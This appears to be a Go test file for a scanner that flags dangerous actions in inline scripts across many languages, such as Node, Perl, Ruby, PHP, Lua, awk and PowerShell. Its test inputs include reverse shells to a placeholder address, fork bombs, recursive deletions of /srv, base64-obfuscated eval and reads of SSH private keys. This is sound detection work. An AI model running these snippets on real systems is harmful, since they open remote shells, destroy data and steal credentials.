package inline

import "testing"

func TestNode(t *testing.T) {
	runCases(t, "node", []scanCase{
		{"require", `require("child_process").execSync("rm -rf /srv")`, []string{"shell [rm -rf /srv]"}},
		{"destructured", `const {exec: e, spawn} = require('node:child_process'); e('id'); spawn('rm', ['-r','x'])`, []string{"shell [id]", "exec [rm] [-r] [x]"}},
		{"import", "import {execSync as s} from 'child_process';\nimport * as fs from 'fs/promises';\ns('id'); await fs.rm('/srv', {recursive: true})", []string{"shell [id]", "delete [/srv] recursive"}},
		{"variable", "const cp = require('child_process')\nconst d = '/srv'\ncp.exec(`rm -rf ${d}/x`, {cwd: '/opt'})", []string{"shell [rm -rf /srv/x] in=/opt"}},
		{"unknown part", "const cp = require('child_process'); cp.exec('rm -rf ' + process.argv[2])", []string{"shell [rm -rf …]"}},
		{"shell option", `require('child_process').spawn('rm -r x', {shell: true})`, []string{"shell [rm -r x]"}},
		{"files", "const fs=require('fs');fs.unlinkSync('a');fs.writeFileSync('b','');fs.appendFile('c','');fs.readFile('d');fs.renameSync('e','f');fs.chmodSync('g',0o777)",
			[]string{"delete [a]", "write [b]", "append [c]", "read [d]", "rename [e] [f]", "chmod [g] mode=777"}},
		{"applied", "const c=require('child_process');c.execSync.call(null,'id');c.spawn.apply(c,['rm',['x']]);fs.unlinkSync.apply(fs,a)",
			[]string{"shell [id]", "exec [rm] [x]", "delete […]"}},
		{"applied by others", "f.call(this, 'x'); Math.max.apply(null, [1]); Array.prototype.slice.call(a)", nil},
		{"globals of -e", `fs.rmSync('/srv', {recursive: true, force: true})`, []string{"delete [/srv] recursive"}},
		{"eval", `eval("require('child_process').exec('id')")`, []string{"shell [id]"}},
		{"eval of base64", `eval(Buffer.from("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=", "base64").toString())`, []string{"shell [id] decoded"}},
		{"dynamic", `eval(process.argv[2]); new Function(x)()`, []string{"dynamic […]", "dynamic […]"}},
		{"module by index", `require('child_' + 'process')['exec']('id')`, []string{"shell [id]"}},
		{"char codes", `require('child_process').exec(String.fromCharCode(105,100))`, []string{"shell [id] decoded"}},
		{"network", `fetch('http://a.example'); fetch('http://b.example', {method: 'POST', body: x})`, []string{"network [http://a.example]", "upload [http://b.example]"}},
		{"reverse shell", `sh = require("child_process").spawn("/bin/sh"); require("net").connect(1, "192.0.2.1", function () { this.pipe(sh.stdin); sh.stdout.pipe(this) })`,
			[]string{"spawn [/bin/sh]", "network [192.0.2.1:1]", "socket_shell"}},
		{"fork bomb", "const cp=require('child_process'); while(true){ cp.fork(__filename) }", []string{"exec [node] […]", "fork_bomb"}},
		{"kill", "process.kill(1, 'SIGKILL')", []string{"signal [1] mode=SIGKILL"}},
		{"environment", "console.log(JSON.stringify(process.env))", []string{"env"}},
		{"call in a template", "x = `${require('child_process').execSync('id')}`", []string{"shell [id]"}},
		{"string", `console.log("require('child_process').exec('id')"); // exec('id')` + "\n/* execSync('id') */", nil},
		{"regex", `"abc".match(/exec\('x'\)/); /a/.exec("b"); re.exec(s)`, nil},
		{"ordinary", "const a = [1]; a.remove; map.delete(1); console.log(process.env.PATH); app.listen; arr.map(x => x.id)", nil},
		{"ordinary modules", "const path = require('path'); const x = require(path.join(__dirname, 'y'));", nil},
	})
}

func TestPerl(t *testing.T) {
	runCases(t, "perl", []scanCase{
		{"system", `system("rm -rf /srv");`, []string{"shell [rm -rf /srv]"}},
		{"system list", `system "rm", "-rf", "/srv" or die;`, []string{"exec [rm] [-rf] [/srv]"}},
		{"array", `my @c = ("rm", "-r", "x"); system(@c);`, []string{"exec [rm] [-r] [x]"}},
		{"backticks", "my $x = `id`; print qx{ls}; $y = qx/who/;", []string{"shell [id]", "shell [ls]", "shell [who]"}},
		{"exec", `exec "/bin/sh";`, []string{"shell [/bin/sh]"}},
		{"unlink", `unlink "a", "b"; unlink glob "/srv/*";`, []string{"delete [a] [b]", "delete {/srv/*}"}},
		{"rmtree", `use File::Path; rmtree('/srv'); remove_tree("a","b"); File::Path::rmtree("c");`, []string{"delete [/srv] recursive", "delete [a] [b] recursive", "delete [c] recursive"}},
		{"open modes", `open(F, ">a"); open(my $f, '>>', "b"); open F, "c"; open(P, "id|"); open(P, "|sh"); open(my $p, "-|", "ls", "-l");`,
			[]string{"write [a]", "append [b]", "read [c]", "shell [id]", "shell [sh]", "exec [ls] [-l]"}},
		{"variables", `my $d = "/srv"; my $c = "rm -rf " . $d; system($c . "/x"); system("ls $d");`, []string{"shell [rm -rf /srv/x]", "shell [ls /srv]"}},
		{"function by text", `my $f = "system"; &$f("id");`, []string{"shell [id]"}},
		{"interpolated code", `print "@{[system('id')]}";`, []string{"shell [id]"}},
		{"substitution as code", `$x =~ s/a/system("id")/e;`, []string{"shell [id]"}},
		{"eval", `eval "system('id')"; eval { risky() }; eval $x;`, []string{"shell [id]", "dynamic […]"}},
		{"eval of base64", `use MIME::Base64; eval decode_base64("c3lzdGVtKCdpZCcp");`, []string{"shell [id] decoded"}},
		{"pack", `system(pack("H*", "6964"));`, []string{"shell [id] decoded"}},
		{"fork bomb", `fork while fork;`, []string{"fork_bomb", "fork"}},
		{"fork bomb in a loop", `while (1) { fork; }`, []string{"fork_bomb"}},
		{"kill", `kill 9, -1; kill 'KILL', 1;`, []string{"signal [-1] mode=9", "signal [1] mode=KILL"}},
		{"chmod", `chmod 0777, "a", "b";`, []string{"chmod [a] [b] mode=777"}},
		{"reverse shell", `use Socket;$i="192.0.2.1";$p=1;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};`,
			[]string{"socket", "network [192.0.2.1:1]", "shell [/bin/sh -i]", "socket_shell"}},
		{"home", `open(F, "$ENV{HOME}/.ssh/id_rsa");`, []string{"read [~/.ssh/id_rsa]"}},
		{"heredoc", "system(<<EOF);\nrm -r x\nEOF\n", []string{"shell [rm -r x\n]"}},
		{"strings", `print "system('id')"; print 'unlink "a"'; # exec "sh"` + "\n=pod\nsystem('id')\n=cut\nmy $x = q{exec 'a'};", nil},
		{"ordinary", `while (<>) { my ($a, $b) = split /,/; $h{system} = 1; $o->exec; print "$a\n" if m/exec/; s/a/b/g; } $x->{unlink};`, nil},
		{"end", "print 1;\n__END__\nsystem('id');", nil},
	})
}

func TestRuby(t *testing.T) {
	runCases(t, "ruby", []scanCase{
		{"system", `system("rm -rf /srv")`, []string{"shell [rm -rf /srv]"}},
		{"system list", `system "rm", "-rf", "/srv"`, []string{"exec [rm] [-rf] [/srv]"}},
		{"backticks", "puts `id`\nx = %x(ls)", []string{"shell [id]", "shell [ls]"}},
		{"exec and spawn", "exec 'ls' if x\nspawn('rm x')\nKernel.system('id')", []string{"shell [ls]", "shell [rm x]", "shell [id]"}},
		{"popen", `IO.popen(["rm", "x"]); IO.popen("ls | wc")`, []string{"exec [rm] [x]", "shell [ls | wc]"}},
		{"fileutils", "require 'fileutils'\nFileUtils.rm_rf('/srv')\nFileUtils.rm_r %w[a b]\nFileUtils.mv 'c', 'd'\nFileUtils.chmod 0777, 'e'", []string{"delete [/srv] recursive", "delete [a] [b] recursive", "rename [c] [d]", "chmod [e] mode=777"}},
		{"files", "File.delete('a')\nDir.rmdir 'b'\nFile.open('c', 'w') { |f| f.puts 1 }\nFile.read('d')\nFile.write('e', 1)", []string{"delete [a]", "delete [b]", "write [c]", "read [d]", "write [e]"}},
		{"open pipe", `open("|id").read; open("x")`, []string{"shell [id]", "read [x]"}},
		{"interpolation", "d = '/srv'\nsystem(\"rm -rf #{d}/x\")\nsystem(\"rm #{ARGV[0]}\")", []string{"shell [rm -rf /srv/x]", "shell [rm …]"}},
		{"send", "Kernel.send(:system, 'id'); send('ex'+'ec', 'ls')", []string{"shell [id]", "shell [ls]"}},
		{"eval", "eval(\"system('id')\"); eval(gets)", []string{"shell [id]", "dynamic […]"}},
		{"eval of base64", "require 'base64'; eval Base64.decode64('c3lzdGVtKCdpZCcp')", []string{"shell [id] decoded"}},
		{"pack", "system(['6964'].pack('H*'))", []string{"shell [id] decoded"}},
		{"each", "%w[a b].each { |f| File.delete(f) }", []string{"delete [a] [b]"}},
		{"fork bomb", "loop { fork }", []string{"fork_bomb"}},
		{"fork", "pid = fork { puts 1 }", []string{"fork"}},
		{"socket", `s = TCPSocket.new("192.0.2.1", 1)`, []string{"network [192.0.2.1:1]"}},
		{"reverse shell", `spawn("sh",[:in,:out,:err]=>TCPSocket.new("192.0.2.1",1))`, []string{"shell [sh]", "network [192.0.2.1:1]", "socket_shell"}},
		{"shell over gets", `c=TCPSocket.new("192.0.2.1",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end`, []string{"network [192.0.2.1:1]", "shell […]", "socket_shell"}},
		{"kill", "Process.kill('KILL', 1)", []string{"signal [1] mode=KILL"}},
		{"network", "Net::HTTP.get(URI('http://a.example'))\nURI.open('http://b.example')", []string{"network [http://a.example]", "network [http://b.example]"}},
		{"environment", "puts ENV.to_h", []string{"env"}},
		{"strings", "puts \"system('id')\" # exec 'sh'\nx = 'File.delete(1)'\n=begin\nsystem('id')\n=end\n", nil},
		{"ordinary", "a = [1]; a.delete(1); h = {system: 1}; a.each { |x| puts x }; puts ENV['PATH']; obj.exec('x')", nil},
	})
}

func TestPHP(t *testing.T) {
	runCases(t, "php", []scanCase{
		{"system", `system("rm -rf /srv");`, []string{"shell [rm -rf /srv]"}},
		{"tag", `<?php shell_exec('id'); ?> exec('x') <?php passthru("ls");`, []string{"shell [id]", "shell [ls]"}},
		{"backticks", "echo `id`;", []string{"shell [id]"}},
		{"case", `\SYSTEM('id');`, []string{"shell [id]"}},
		{"variables", `$d = '/srv'; exec("rm -rf $d/x"); exec('ls ' . $d); exec("rm {$_GET['x']}");`, []string{"shell [rm -rf /srv/x]", "shell [ls /srv]", "shell [rm …]"}},
		{"function by text", `$f = 'sys' . 'tem'; $f('id'); call_user_func('exec', 'ls');`, []string{"shell [id]", "shell [ls]"}},
		{"function unknown", `$_GET['f']($_GET['c']); $f($x); $g = function($x) {}; $g(1);`, []string{"dynamic", "dynamic"}},
		{"files", `unlink('a'); rmdir("b"); file_put_contents('c', 1); file_put_contents('d', 1, FILE_APPEND); rename('e','f'); fopen('g', 'r'); chmod('h', 0777);`,
			[]string{"delete [a]", "delete [b]", "write [c]", "append [d]", "rename [e] [f]", "read [g]", "chmod [h] mode=777"}},
		{"eval of base64", `eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));`, []string{"shell [id] decoded"}},
		{"dynamic", `eval($_POST['x']);`, []string{"dynamic […]"}},
		{"reverse shell", `$s=fsockopen("192.0.2.1",1);exec("/bin/sh <&3 >&3 2>&3");`, []string{"network [192.0.2.1:1]", "shell [/bin/sh <&3 >&3 2>&3]", "socket_shell"}},
		{"proc_open", `$s=fsockopen("192.0.2.1",1);proc_open("/bin/sh",[$s,$s,$s],$p);`, []string{"network [192.0.2.1:1]", "shell [/bin/sh]", "socket_shell"}},
		{"url", `file_get_contents('http://a.example/x');`, []string{"network [http://a.example/x]"}},
		{"strings", `echo "system('id')"; // exec('a')` + "\n# unlink('b')\n/* eval('c') */ $x = <<<EOT\nsystem('id')\nEOT;\n", nil},
		{"ordinary", `$o->system('x'); $db->exec('select 1'); echo strlen("a"); Foo::unlink('x');`, nil},
	})
}

func TestLua(t *testing.T) {
	runCases(t, "lua5.4", []scanCase{
		{"execute", `os.execute("rm -rf /srv") os.execute "id" os.execute[[ls]]`, []string{"shell [rm -rf /srv]", "shell [id]", "shell [ls]"}},
		{"index", `os["exe".."cute"]("id")`, []string{"shell [id]"}},
		{"variables", "local d = '/srv'\nos.remove(d .. '/a')\nos.rename('b', 'c')", []string{"delete [/srv/a]", "rename [b] [c]"}},
		{"open", `io.open("a", "w"):write(1) io.popen("ls")`, []string{"write [a]", "shell [ls]"}},
		{"load", `load("os.execute('id')")() load(x)`, []string{"shell [id]"}},
		{"char", `os.execute(string.char(105,100))`, []string{"shell [id] decoded"}},
		{"reverse shell", `require('socket');t=socket.tcp();t:connect('192.0.2.1','1');os.execute('/bin/sh -i <&3 >&3 2>&3');`, []string{"socket", "network [192.0.2.1:1]", "shell [/bin/sh -i <&3 >&3 2>&3]", "socket_shell"}},
		{"strings", "print(\"os.execute('id')\") -- os.remove('a')\n--[[ os.execute('id') ]]\nx = [==[ os.remove('b') ]==]", nil},
		{"ordinary", `t:remove(1) table.remove(t) x = {os = 1} print(os.time())`, nil},
	})
}

func TestAwk(t *testing.T) {
	runCases(t, "awk", []scanCase{
		{"substitution", `BEGIN { c = "Xm"; gsub("X", "r", c); system(c); d = "ls"; system(d) }`, []string{"shell [Xm]", "shell […]", "shell [ls]"}},
		{"read into a variable", `BEGIN { c = "ls"; "date" | getline c; system(c) }`, []string{"shell [ls]", "shell […]", "shell [date]"}},
		{"system", `BEGIN { system("rm -rf /srv") }`, []string{"shell [rm -rf /srv]"}},
		{"field", `{ system("rm " $1) }`, []string{"shell [rm …]"}},
		{"getline", `BEGIN { "id" | getline x; while (("ls " d) | getline) print; getline y < "/etc/hosts" }`, []string{"shell [id]", "shell [ls …]", "read [/etc/hosts]"}},
		{"print", `{ print $1 > "a"; print $2 >> "b"; print $3 | "sort" }`, []string{"write [a]", "append [b]", "shell [sort]"}},
		{"network", `BEGIN { s = "/inet/tcp/0/192.0.2.1/1"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s } }`,
			[]string{"network [192.0.2.1:1]", "shell […]", "network [192.0.2.1:1]", "socket_shell"}},
		{"comparison", `$1 > 5 { print $2 } { if ($3 > "x") print ($1 > 2) } # system("id")`, nil},
		{"strings", `{ print "system(\"id\")"; print "a" > "/dev/stderr" } /system\("x"\)/ { n++ }`, nil},
	})
}

func TestOthers(t *testing.T) {
	t.Parallel()
	for lang, cases := range map[string][]scanCase{
		"R": {
			{"system", `system("rm -rf /srv"); system2("ls", c("-l", "x")); unlink("a", recursive = TRUE); file.remove("b")`, []string{"shell [rm -rf /srv]", "shell [ls -l x]", "delete [a] recursive", "delete [b]"}},
			{"eval", `eval(parse(text = "system('id')"))`, []string{"shell [id]"}},
			{"strings", "# system('a')\nprint(\"system('id')\"); x <- c(1,2)", nil},
		},
		"go": {
			{"exec", "package main\nfunc main() { exec.Command(\"sh\", \"-c\", \"id\").Run(); os.RemoveAll(\"/srv\") }", []string{"exec [sh] [-c] [id]", "delete [/srv] recursive"}},
			{"socket shell", "func main() { fd, _ := syscall.Socket(2, 1, 0); syscall.Dup2(fd, 0); syscall.Exec(\"/bin/sh\", []string{\"/bin/sh\"}, os.Environ()) }", []string{"socket", "spawn [/bin/sh]", "socket_shell"}},
			{"strings", "// exec.Command(\"sh\")\nvar x = `os.RemoveAll(\"/\")`", nil},
		},
		"java": {
			{"exec", `class A { void f() { Runtime.getRuntime().exec("rm -r x"); new ProcessBuilder("ls", "-l").start(); } }`, []string{"exec [rm] [-r] [x]", "exec [ls] [-l]"}},
			{"groovy", `"rm -r x".execute()`, []string{"exec [rm] [-r] [x]"}},
		},
		"c": {
			{"system", "#include <stdlib.h>\nint main(){ system(\"id\"); unlink(\"a\"); execl(\"/bin/sh\", \"sh\", 0); }", []string{"shell [id]", "delete [a]", "spawn [/bin/sh]"}},
			{"fork bomb", "int main(){ while(1) fork(); }", []string{"fork_bomb"}},
			{"strings", `/* system("id") */ int main(){ puts("system(\"id\")"); } // fork()`, nil},
		},
		"tclsh": {
			{"exec", "exec rm -rf /srv\nset x [exec ls]\nfile delete -force a b\nset f [open \"|id\"]", []string{"exec [rm] [-rf] [/srv]", "exec [ls]", "delete [a] [b] recursive", "shell [id]"}},
			{"reverse shell", "set s [socket 192.0.2.1 1];while 1 { gets $s c; set e \"exec $c\"; eval $e }", []string{"network [192.0.2.1:1]", "dynamic […]", "socket_shell"}},
			{"strings", "# exec id\nputs \"exec id\"", nil},
		},
		"expect": {{"spawn", "spawn ssh host\nexpect \"x\"", []string{"exec [ssh] [host]"}}},
		"osascript": {
			{"shell", `do shell script "rm -rf /srv" with administrator privileges`, []string{"shell [rm -rf /srv]"}},
			{"strings", "display dialog \"do shell script\" -- do shell script \"id\"", nil},
		},
		"pwsh": {
			{"remove", "Remove-Item -Recurse -Force /srv; rm a", []string{"delete [/srv] recursive", "delete [a]"}},
			{"expression", `iex "Remove-Item x"; Invoke-Expression $x; iwr http://a.example -OutFile y`, []string{"delete [x]", "dynamic […]", "network [http://a.example]", "write [y]"}},
			{"program", "git status; & ./x.sh", []string{"exec [git] [status]", "exec [./x.sh]"}},
			{"strings", "# rm a\nWrite-Output 'rm b'", nil},
		},
	} {
		t.Run(lang, func(t *testing.T) { runCases(t, lang, cases) })
	}
}
